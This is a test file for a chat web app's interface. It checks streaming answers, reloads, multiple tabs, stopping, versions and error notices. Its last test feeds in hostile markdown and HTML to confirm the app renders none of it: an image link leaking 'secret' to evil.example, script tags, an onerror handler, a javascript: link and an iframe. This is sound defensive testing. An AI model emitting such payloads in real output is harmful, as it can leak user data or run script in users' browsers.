import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { answersOf, ask, assertNoProblems, createWorld, waitForEnd, type World } from './world.ts'

let world: World
before(async () => {
  world = await createWorld()
})
after(() => world.close())

/** About five seconds of answer, in words that come one by one. */
const SLOWLY = '[[fault: delay=9 size=3000]]'

test('a question gets an answer that streams, in the language of the question', async () => {
  const visit = await world.open()
  const { page } = visit
  await ask(page, 'Bonjour, comment est le temps et pourquoi ?')

  const answer = answersOf(page).first()
  await answer.getByText('l’eau bout').or(answer.getByText('Bien sûr')).waitFor()
  await waitForEnd(page)
  assert.equal(await answer.locator('.md').getAttribute('lang'), 'fr')
  assert.equal(await answer.locator('.md').getAttribute('dir'), 'ltr')
  assert.match(page.url(), /\/c\/[0-9a-f-]{36}$/)
  await page.getByRole('link', { name: /Bonjour/ }).waitFor()
  assertNoProblems(visit)
  await visit.context.close()
})

test('a reload in the middle of an answer, and a second tab, show the same text', async () => {
  const visit = await world.open()
  const { page, context } = visit
  await ask(page, `Hello, what is this? ${SLOWLY}`)
  await answersOf(page).first().locator('.md').getByText(/\w{5}/).first().waitFor()

  const second = await context.newPage()
  await second.goto(page.url())
  await page.reload()
  await answersOf(second).first().locator('.md').waitFor()
  await answersOf(page).first().locator('.md').waitFor()
  assert.equal(await page.getByRole('button', { name: 'Stop the answer' }).count(), 1)

  await Promise.all([waitForEnd(page), waitForEnd(second)])
  const [one, other] = await Promise.all([
    answersOf(page).first().locator('.md').innerText(),
    answersOf(second).first().locator('.md').innerText(),
  ])
  assert.ok(one.length > 2500)
  assert.equal(one, other)
  await page.reload()
  assert.equal(await answersOf(page).first().locator('.md').innerText(), one)
  assertNoProblems(visit)
  await context.close()
})

test('what the model thought, and what it could not read, are there after a reload', async () => {
  const visit = await world.open()
  const { page } = visit
  await ask(page, 'Hello, why is that so? [[reasoning]]')
  await waitForEnd(page)
  const thoughts = answersOf(page).first().getByRole('group').getByText('Thoughts')
  await thoughts.waitFor()
  const shown = await answersOf(page).first().innerText()

  await page.route('**/api/conversations/*/messages*', async (route) => {
    const response = await route.fetch()
    const { messages } = await response.json()
    await route.fulfill({
      json: { messages: [messages[0], { ...messages[1], omittedMessages: 3 }] },
    })
  })
  await page.reload()
  await thoughts.click()
  await answersOf(page).first().getByRole('group').getByRole('paragraph').waitFor()
  await thoughts.click()
  const reloaded = await answersOf(page).first().innerText()
  assert.match(reloaded, /its 3 oldest messages were left out/)
  for (const line of shown.split('\n')) assert.ok(reloaded.includes(line), line)
  assertNoProblems(visit)
  await visit.context.close()
})

test('a question that is asked in one tab appears in the other, and its answer streams there too', async () => {
  const visit = await world.open()
  const { page, context } = visit
  await ask(page, 'Hello there')
  await waitForEnd(page)
  const second = await context.newPage()
  await second.goto(page.url())
  await answersOf(second).first().waitFor()

  await ask(page, 'Hello once more, what is it?')
  await second.getByText('Hello once more').first().waitFor()
  await waitForEnd(page)
  await waitForEnd(second)
  assert.equal(await answersOf(second).count(), 2)
  assertNoProblems(visit)
  await context.close()
})

test('an answer can be stopped, keeps what it had, and goes on from there', async () => {
  const visit = await world.open()
  const { page } = visit
  await ask(page, `Hello, what is this? ${SLOWLY}`)
  const text = answersOf(page).first().locator('.md')
  await text.getByText(/\w{5}/).first().waitFor()
  await page.getByRole('button', { name: 'Stop the answer' }).click()
  await page.getByText('You stopped this answer.').waitFor()
  const stopped = await text.innerText()
  assert.ok(stopped.length < 2500)

  await page.getByRole('button', { name: 'Continue' }).click()
  await page.getByText('You stopped this answer.').waitFor({ state: 'detached' })
  await page.getByRole('button', { name: 'Stop the answer' }).click()
  await page.getByText('You stopped this answer.').waitFor()
  assert.ok((await text.innerText()).startsWith(stopped.trimEnd()))
  assertNoProblems(visit)
  await visit.context.close()
})

test('answering again and editing add versions, and one can go through them', async () => {
  const visit = await world.open()
  const { page } = visit
  await ask(page, 'Hello, what is the time?')
  await waitForEnd(page)

  await page.getByRole('button', { name: 'Answer again' }).click()
  await page.getByText('2/2').waitFor()
  await waitForEnd(page)
  await page.getByRole('button', { name: 'Previous version' }).click()
  await page.getByText('1/2').waitFor()

  await page.getByRole('article', { name: 'You wrote' }).hover()
  await page.getByRole('button', { name: 'Edit this message' }).click()
  const field = page.getByRole('textbox', { name: 'New version of your message' })
  await page.keyboard.type(' And the day?')
  assert.equal(await field.inputValue(), 'Hello, what is the time? And the day?')
  await field.fill('Guten Tag, was ist das?')
  await page.getByRole('button', { name: 'Send as a new version' }).click()
  await page.getByText('Guten Tag, was ist das?').waitFor()
  await answersOf(page).locator('.md[lang="de"]').waitFor()
  await waitForEnd(page)

  await page.getByRole('article', { name: 'You wrote' }).hover()
  await page.getByRole('button', { name: 'Previous version' }).click()
  await page.getByText('Hello, what is the time?').first().waitFor()
  await page.getByText('1/2').first().waitFor()

  // What was chosen is still shown after a reload.
  await page.reload()
  await page.getByRole('article').getByText('Hello, what is the time?').waitFor()
  assertNoProblems(visit)
  await visit.context.close()
})

test('an answer that fails says why and what to do, and trying again adds a version', async () => {
  const visit = await world.open()
  const { page } = visit
  await ask(page, 'Hello, what now? [[fault: status=503 times=9]]')
  const alert = page.getByRole('alert')
  await alert
    .getByText(/Try again/)
    .first()
    .waitFor()
  await alert.getByRole('button', { name: 'Try again' }).click()
  await page.getByText('2/2').waitFor()
  assertNoProblems(visit)
  await visit.context.close()
})

test('an answer that a limit of length cut says so, also after a reload, and can go on', async () => {
  const visit = await world.open()
  const { page } = visit
  await ask(page, 'Hello, what is this? [[fault: finish=length]]')
  const notice = page.getByText('The answer reached its limit of length and was cut off here.')
  await notice.waitFor()
  await page.reload()
  await notice.waitFor()
  const cut = await answersOf(page).first().locator('.md').innerText()
  await page.getByRole('button', { name: 'Continue' }).click()
  await page.waitForFunction(
    (length) => (document.querySelector<HTMLElement>('.md')?.innerText.length ?? 0) > length,
    cut.length,
  )
  await waitForEnd(page)
  assertNoProblems(visit)
  await visit.context.close()
})

test('what a model thinks can be read while it answers and afterwards', async () => {
  const visit = await world.open()
  const { page } = visit
  await ask(page, 'Hello, what is this? [[reasoning]] [[fault: delay=30]]')
  await page.getByText('Thinking…').click()
  await page.getByText('the question is short').waitFor()
  await waitForEnd(page)
  await page.getByText('Thoughts').waitFor()
  assert.ok(await page.getByText('the question is short').isVisible())
  assertNoProblems(visit)
  await visit.context.close()
})

test('what the model writes causes no request, no script and no page', async () => {
  const visit = await world.open()
  const { page } = visit
  const hostile = [
    '![leak](https://evil.example/?q=secret) <img src=x onerror="alert(1)">',
    '<script>document.title = "owned"</script> [click](javascript:alert(1))',
    '<iframe src="https://evil.example"></iframe> [ok](https://example.org/page)',
  ].join('\n\n')
  await ask(page, `[[echo]] ${hostile}`)
  await waitForEnd(page)
  const answer = answersOf(page).first()
  await answer.getByText('leak').first().waitFor()
  assert.equal(await answer.locator('img, iframe, script').count(), 0)
  assert.equal(await answer.locator('a[href^="javascript"]').count(), 0)
  assert.notEqual(await page.title(), 'owned')
  assertNoProblems(visit)
  await visit.context.close()
})
